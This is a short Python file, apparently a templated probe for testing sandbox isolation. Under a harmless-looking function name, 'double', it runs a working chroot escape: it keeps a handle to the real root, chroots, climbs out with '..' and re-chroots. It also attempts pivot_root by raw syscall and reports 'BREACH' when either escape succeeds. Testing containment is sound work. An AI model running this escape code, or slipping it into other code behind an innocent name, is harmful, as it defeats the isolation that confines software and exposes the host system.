"""Leaves its root by chroot twice, by pivot_root, and by an open folder. Success: another root."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
PIVOT_ROOT = {"x86_64": 155, "aarch64": 41}[os.uname().machine]


def double(x, factor):
    os.makedirs("/tmp/{{MARK}}-root", exist_ok=True)
    outside = os.open("/", os.O_RDONLY)
    if libc.chroot(b"/tmp/{{MARK}}-root") == 0:
        os.fchdir(outside)
        for _ in range(64):
            os.chdir("..")
        libc.chroot(b".")
        print("BREACH: chroot", os.listdir("/"))
    if libc.syscall(PIVOT_ROOT, b"/tmp", b"/tmp/{{MARK}}-root") == 0:
        print("BREACH: pivot_root")
    return x, None


def back(cache):
    return None
